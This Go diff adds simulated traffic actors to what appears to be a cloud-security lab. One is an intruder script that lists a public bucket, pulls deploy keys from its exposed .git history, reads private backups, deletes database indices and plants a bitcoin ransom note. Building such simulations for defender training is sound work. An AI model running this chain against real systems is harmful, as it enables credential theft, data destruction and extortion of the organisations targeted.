@@ -1,0 +1,93 @@
+package actors
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/sakimori/sakimori/sim/labkit"
+
+	"github.com/sakimori/sakimori/sim/aws/client"
+)
+
+// Open by Default's traffic: visitors reading the public website bucket
+// and the shop reading its search database; and an intruder who lists the
+// public bucket, takes the deploy key out of its published .git folder,
+// reads the private backups with it, then wipes the open database and
+// leaves a ransom note, as the 2017 ransom gangs and the 2020 "Meow" bot did.
+func init() {
+	labkit.RegisterScript("open-users", openUsers)
+	labkit.RegisterScript("open-intruder", openIntruder)
+}
+
+// RansomWallet is the address the note demands payment to.
+const RansomWallet = "bc1qm34lsc65zpw79lxes69zkqmk6ee3ewf0j77s3h"
+
+func openUsers(ctx context.Context, env labkit.Env) error {
+	anon := &client.Client{Endpoint: env("CLOUD"), UserAgent: labkit.BrowserUA}
+	hc := &http.Client{Timeout: 10 * time.Second}
+	for labkit.Sleep(ctx, 20*time.Second) {
+		_, _ = anon.S3("GET", "/acme-www/index.html", nil)
+		_, _ = anon.S3("GET", "/acme-www/style.css", nil)
+		_, _ = labkit.Get(hc, env("DB")+"/customers/_search", "acme-shop/3.2")
+	}
+	return nil
+}
+
+func openIntruder(ctx context.Context, env labkit.Env) error {
+	if !labkit.Sleep(ctx, labkit.Duration(env, "DELAY", 30*time.Second)) {
+		return nil
+	}
+	if err := openOnce(env); err != nil {
+		labkit.Logger.Info("intruder: run ended early", "err", err)
+	}
+	<-ctx.Done()
+	return nil
+}
+
+func openOnce(env labkit.Env) error {
+	anon := &client.Client{Endpoint: env("CLOUD"), UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.ls"}
+	if _, err := anon.S3("GET", "/acme-www?list-type=2", nil); err != nil {
+		return err
+	}
+	anon.UserAgent = strings.Replace(anon.UserAgent, "s3.ls", "s3.sync", 1)
+	head, err := anon.S3("GET", "/acme-www/.git/refs/heads/main", nil)
+	if err != nil || !head.OK() {
+		return fmt.Errorf("no .git folder: %v %v", head, err)
+	}
+	creds, err := client.KeysInHistory(strings.TrimSpace(string(head.Body)), func(path string) ([]byte, error) {
+		res, err := anon.S3("GET", "/acme-www/.git/"+path, nil)
+		if err == nil && !res.OK() {
+			err = fmt.Errorf("%s: %s", path, res)
+		}
+		return res.Body, err
+	})
+	if err != nil {
+		return err
+	}
+	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 command/s3.cp"}
+	_, _ = c.Query("sts", "GetCallerIdentity", nil)
+	_, _ = c.S3("GET", "/acme-customer-backups?list-type=2", nil)
+	_, _ = c.S3("GET", "/acme-customer-backups/db/customers-2026-11-01.json", nil)
+
+	// The wipe: read, delete, and leave the note where the data was.
+	hc := &http.Client{Timeout: 10 * time.Second}
+	db := env("DB")
+	_, _ = labkit.Get(hc, db+"/_cat/indices", "python-requests/2.31.0")
+	for _, index := range []string{"customers", "orders"} {
+		req, _ := http.NewRequest(http.MethodDelete, db+"/"+index, nil)
+		if resp, err := hc.Do(req); err == nil {
+			resp.Body.Close()
+		}
+	}
+	note := fmt.Sprintf(`{"message": "All your data is backed up. You must pay 0.05 BTC to %s in 48 hours to recover it. After 48 hours expiration we will leak and expose all your data. Contact: recover@protonmail.example"}`, RansomWallet)
+	req, _ := http.NewRequest(http.MethodPut, db+"/read_me/_doc/1", strings.NewReader(note))
+	req.Header.Set("Content-Type", "application/json")
+	resp, err := hc.Do(req)
+	if err == nil {
+		resp.Body.Close()
+	}
+	return err
+}
